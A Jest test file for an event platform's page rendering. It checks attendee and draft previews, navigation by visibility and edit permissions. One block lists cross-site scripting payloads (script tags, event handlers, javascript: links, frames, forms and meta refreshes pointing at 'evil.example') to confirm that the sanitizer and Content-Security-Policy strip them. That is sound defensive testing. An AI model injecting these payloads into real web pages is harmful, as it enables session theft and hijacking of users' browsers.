import { afterAll, describe, expect, test } from '@jest/globals'
import { eq } from 'drizzle-orm'
import { draftPreview, pagePreview, pageVisibility } from '#contract/events/pages.ts'
import { changes, eventPages, events } from '#nucleus/db/tables/index.ts'
import { makeEvent, ok, startNucleus } from '../support/nucleus.ts'

const nucleus = await startNucleus()
const { token } = await nucleus.signIn('eventManager')
afterAll(() => nucleus.close())
const { db } = nucleus
const { hidden, registered, public: open } = pageVisibility

let count = 0
/** A page that is stored as it is given, without passing any rule. */
async function stored(eventId: number, values: Partial<typeof eventPages.$inferInsert> = {}) {
  const page = { eventId, pageType: 10, title: 'Travel', slug: `travel-${(count += 1)}`, visibility: open, ...values }
  const [row] = await db.insert(eventPages).values(page).returning()
  if (!row) throw new Error('The insert returned no row')
  return row
}
const shown = async (pagesEventId: number) => ok(await nucleus.call(pagePreview, { pagesEventId }, token)).html

describe('a page as an attendee sees it', () => {
  test('has the head of the event, the picture, the title and the text', async () => {
    const { eventId } = await makeEvent(db, { name: 'Forum & Friends', venueName: 'The Pier', city: 'Miami' })
    const { pagesEventId } = await stored(eventId, {
      bodyHtml: '<p>By <strong>train</strong>.</p>',
      heroImageUrl: 'https://example.com/a.jpg?b=1&c=2',
    })
    const html = await shown(pagesEventId)
    expect(html).toContain('<b>Forum &amp; Friends</b>')
    expect(html).toContain('<p>Monday 1 June – Wednesday 3 June 2026 · The Pier, Miami</p>')
    expect(html).toContain('<img class="hero" src="https://example.com/a.jpg?b=1&amp;c=2" alt="">')
    expect(html).toContain('<h1>Travel</h1>')
    expect(html).toContain('<p>By <strong>train</strong>.</p>')
  })

  test('names the days by the calendar of the event', async () => {
    const { eventId } = await makeEvent(db, { timeZone: 'Asia/Tokyo', startsAt: '2026-06-01T16:00:00Z', endsAt: '2026-06-02T08:00:00Z' })
    expect(await shown((await stored(eventId)).pagesEventId)).toContain('Tuesday 2 June 2026 ·')
  })

  test('lists the pages that its readers see, and no hidden one', async () => {
    const { eventId } = await makeEvent(db)
    const page = await stored(eventId, { title: 'Open page', sortOrder: 1 })
    const inner = await stored(eventId, { title: 'Inner page', visibility: registered, sortOrder: 2 })
    const secret = await stored(eventId, { title: 'Secret page', visibility: hidden, sortOrder: 3 })
    const menu = (html: string) =>
      [...(/<nav.*<\/nav>/.exec(html)?.[0].matchAll(/<span([^>]*)>([^<]*)/g) ?? [])].map(([, mark, title]) => [title, mark])
    const here = ' aria-current="page"'
    expect(menu(await shown(page.pagesEventId))).toEqual([['Open page', here]])
    expect(menu(await shown(inner.pagesEventId))).toEqual([
      ['Open page', ''],
      ['Inner page', here],
    ])
    expect(menu(await shown(secret.pagesEventId))).toEqual([['Open page', '']])
  })

  test('says that there is no text yet', async () => {
    const { eventId } = await makeEvent(db)
    expect(await shown((await stored(eventId)).pagesEventId)).toContain('This page has no text yet.')
  })

  test('is not there for an unknown page', async () => {
    expect((await nucleus.call(pagePreview, { pagesEventId: 999_999 }, token)).status).toBe(404)
  })
})

describe('whatever is in the database', () => {
  const hostile: [string, string][] = [
    ['a script', '<script>steal()</script><SCRIPT src=//evil.example></SCRIPT>'],
    ['a handler', '<p onclick="steal()" onmouseover=steal()>Hi</p><img src=x onerror=steal()>'],
    [
      'a link that runs',
      '<a href="javascript:steal()">x</a><a href="java\nscript:steal()">x</a><a href="data:text/html,<script>steal()</script>">x</a>',
    ],
    [
      'a style that fetches',
      '<style>p{background:url(https://evil.example/steal)}</style><p style="background:url(https://evil.example/steal)">x</p>',
    ],
    [
      'a picture that is code',
      '<svg onload="steal()"><script>steal()</script><use href="data:steal"/></svg><math><mi xlink:href="javascript:steal()">x</mi></math>',
    ],
    ['a frame', '<iframe src="https://evil.example/steal"></iframe><object data="steal"></object><embed src="steal">'],
    ['a form', '<form action="https://evil.example/steal"><input name="steal"><button>x</button></form>'],
    [
      'another head',
      '</main></body><meta http-equiv="refresh" content="0;url=https://evil.example/steal"><base href="https://evil.example/steal">',
    ],
    [
      'a template that hides it',
      '<template><script>steal()</script></template><noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
    ],
    ['a comment that ends early', '<!--><script>steal()</script>--><![CDATA[<script>steal()</script>]]>'],
  ]
  test.each(hostile)('%s never reaches the document', async (_, bodyHtml) => {
    const { eventId } = await makeEvent(db)
    const html = await shown((await stored(eventId, { bodyHtml })).pagesEventId)
    const main = html.slice(html.indexOf('</h1>'))
    expect(main).not.toMatch(/<(script|style|svg|math|iframe|object|embed|form|input|img|meta|base|template|noscript)\b/i)
    expect(main).not.toMatch(/<[^<>]*\s(on\w+|style|src|action)\s*=/i)
    expect(main).not.toMatch(/href="(?!https?:|mailto:)/i)
    expect(main.match(/<\/main>/g)).toHaveLength(1)
  })

  test('markup in the plain texts is text', async () => {
    const attack = '"><script>steal()</script><b title=\''
    const { eventId } = await makeEvent(db, { name: attack, city: attack, venueName: attack })
    const page = await stored(eventId, { title: attack })
    const html = await shown(page.pagesEventId)
    expect(html).not.toContain('<script')
    expect(html.split('&quot;&gt;&lt;script&gt;steal()&lt;/script&gt;')).toHaveLength(8)
  })

  test.each(['javascript:steal()', 'data:image/svg+xml,<svg onload="steal()">', '//evil.example/x', '/nucleus/files/../../steal'])(
    'a picture at %s is not shown',
    async (url) => {
      const { eventId } = await makeEvent(db, { logoUrl: url })
      expect(await shown((await stored(eventId, { heroImageUrl: url })).pagesEventId)).not.toContain('<img')
    },
  )

  test('an address of a picture ends where it ends', async () => {
    const { eventId } = await makeEvent(db)
    const html = await shown((await stored(eventId, { heroImageUrl: 'https://example.com/"onerror="steal()' })).pagesEventId)
    expect(html).not.toContain('"onerror')
  })

  test('the document forbids to itself whatever is not a picture or its own style', async () => {
    const { eventId } = await makeEvent(db)
    const html = await shown((await stored(eventId)).pagesEventId)
    const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1]
    expect(policy).toMatch(
      /^default-src &#39;none&#39;; img-src https: http: data:; style-src &#39;sha256-[\w+/=]+&#39;; base-uri &#39;none&#39;; form-action &#39;none&#39;$/,
    )
    expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf('<style>'))
  })
})

describe('what is being written', () => {
  const draft = (eventId: number, more: object = {}) => ({ eventId, title: 'Draft', bodyHtml: '<p>New</p>', visibility: open, ...more })

  test('is shown without being stored', async () => {
    const { eventId } = await makeEvent(db)
    const page = await stored(eventId, { bodyHtml: '<p>Old</p>' })
    const before = await db.$count(changes)
    const { html } = ok(await nucleus.call(draftPreview, draft(eventId, { pagesEventId: page.pagesEventId }), token))
    expect(html).toContain('<h1>Draft</h1>\n<p>New</p>')
    expect(html).toContain('<span aria-current="page">Draft</span>')
    expect(await db.select().from(eventPages).where(eq(eventPages.pagesEventId, page.pagesEventId))).toEqual([page])
    expect(await db.$count(changes)).toBe(before)
  })

  test('is cleaned as well', async () => {
    const { eventId } = await makeEvent(db)
    const { html } = ok(await nucleus.call(draftPreview, draft(eventId, { bodyHtml: '<p onclick="x()">A<script>x()</script></p>' }), token))
    expect(html).toContain('</h1>\n<p>A</p>\n</main>')
  })

  test('may be without a title or a text', async () => {
    const { eventId } = await makeEvent(db)
    expect(ok(await nucleus.call(draftPreview, { eventId, title: '', bodyHtml: null, visibility: hidden }, token)).html).toContain(
      'Untitled page',
    )
  })

  test('needs an event and the right to edit', async () => {
    const { eventId } = await makeEvent(db)
    expect((await nucleus.call(draftPreview, draft(999_999), token)).status).toBe(404)
    const reader = await nucleus.signIn('readOnly')
    expect((await nucleus.call(draftPreview, draft(eventId), reader.token)).status).toBe(403)
    const page = await stored(eventId)
    expect((await nucleus.call(pagePreview, { pagesEventId: page.pagesEventId }, reader.token)).status).toBe(200)
    expect(await db.$count(events, eq(events.eventId, eventId))).toBe(1)
  })
})
